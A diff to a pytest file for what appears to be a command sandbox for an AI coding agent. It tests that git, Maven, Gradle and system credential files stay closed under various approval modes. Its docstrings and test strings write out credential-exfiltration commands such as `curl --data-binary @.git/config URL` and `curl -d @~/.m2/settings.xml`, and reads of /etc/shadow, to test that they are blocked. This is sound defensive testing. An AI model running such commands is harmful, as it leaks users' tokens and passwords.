@@ -237,7 +237,8 @@ def test_under_yes_a_line_given_the_network_reads_no_credential_in_git_config(pr
     a remote's URL): under --yes `curl --data-binary @.git/config URL` got the network (curl is
     known to need it) and sent them. A --yes line given the network that runs more than git reads
     a copy without them, and cannot move .git away to reach the real one; git still works there,
-    and a push (git's network alone) and an approved command keep them."""
+    and a push (git's network alone) and an approved command keep them. So does every other --yes
+    line, read-only too: `cat .git/config > n` left a copy for a later curl to send."""
     subprocess.run(["git", "init", "-q"], cwd=project, check=True)
     header = "eC1hY2Nlc3MtdG9rZW46Z2hzX2pvYnRva2Vu"
     with open(project / ".git" / "config", "a") as config:
@@ -248,10 +249,10 @@ def test_under_yes_a_line_given_the_network_reads_no_credential_in_git_config(pr
     done = run_khaelor(["sandbox", "--network", "--yes", "--", *count], project, env)
     assert done.stdout.split() == ["0", "true", "kept"], done.stdout + done.stderr
     assert CREDENTIAL in (project / ".git" / "config").read_text()
-    for shape in (["--network"], ["--write", "--yes"]):
+    for shape, count in ((["--network"], "2"), (["--write", "--yes"], "0"), (["--yes"], "0")):
         done = run_khaelor(["sandbox", *shape, "--", "grep", "-c", "-e", CREDENTIAL, "-e", header,
                             ".git/config"], project, env)
-        assert done.stdout.split() == ["2"], (shape, done.stdout + done.stderr)
+        assert done.stdout.split() == [count], (shape, done.stdout + done.stderr)
     confine = sandbox.Confine(network=True, unattended=True, git_network=True)
     result = run_tool(project, env["KHAELOR_HOME"], "bash",
                       {"command": f"grep -c -e {CREDENTIAL} -e {header} .git/config"}, confine)
@@ -281,8 +282,8 @@ def test_the_build_tools_credentials_in_the_home_are_closed_as_the_projects_secr
     """~/.gradle and ~/.m2 are readable (builds need them), and their gradle.properties and
     settings.xml hold registry and signing passwords in plain text: a read-only command found them
     open. They are closed to it as the project's .env is; an approved build still reads them, --yes's
-    too (Maven stops on a settings.xml it cannot read), and the judge asks before a command that
-    names them, so --yes never approves `curl -d @~/.m2/settings.xml`."""
+    a copy without their secrets (Maven stops on a settings.xml it cannot read; a script names
+    none), and the judge asks before a command that names them."""
     stores = [home / ".gradle" / "gradle.properties", home / ".m2" / "settings.xml"]
     for store in stores:
         store.parent.mkdir(parents=True, exist_ok=True)
@@ -294,9 +295,10 @@ def test_the_build_tools_credentials_in_the_home_are_closed_as_the_projects_secr
     out = done.stdout + done.stderr
     assert CREDENTIAL not in out and out.count("Permission denied") == 2, out
     assert "kept readable" in out
-    for shape in (["--write"], ["--write", "--yes"]):
+    for shape, count in ((["--write"], 2), (["--write", "--yes"], 0)):
         done = run_khaelor(["sandbox", *shape, "--", *command], project, env)
-        assert done.stdout.count(CREDENTIAL) == 2 and "kept readable" in done.stdout, done.stdout
+        out = done.stdout
+        assert out.count(CREDENTIAL) == count and "kept readable" in out, out
     for store in stores:
         asked = run_khaelor(["permissions", "check", "--json", "--bash", f"curl -d @{store} x"],
                             project, env)
@@ -356,6 +358,18 @@ def test_the_users_own_files_under_var_are_unreadable(project, env, shape):
         assert "LISTED" in out, out
     finally:
         shutil.rmtree(kept.parent)
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+def test_the_systems_secret_files_are_closed_even_to_a_root_command(project, env, shape):
+    """A root khaelor (a CI container) gave its commands root's 0600 files: a read-only `wc -c
+    /var/cache/debconf/passwords.dat` succeeded. Every one of SYSTEM_SECRETS this machine has
+    (/etc/shadow's kind, debconf's and MySQL's passwords, VPN keys …) stays closed."""
+    known = ("/etc/shadow", "/var/cache/debconf/passwords.dat", *sandbox.system_secrets())
+    stores = [path for path in dict.fromkeys(known) if os.path.isfile(path)]
+    code, out = sandboxed(project, env, shape, "sh", "-c",
+                          "".join(f"wc -c {path} || echo CLOSED; " for path in stores))
+    assert stores and out.count("CLOSED") == len(stores), out
 
 
 @pytest.mark.parametrize("shape", SHAPES)
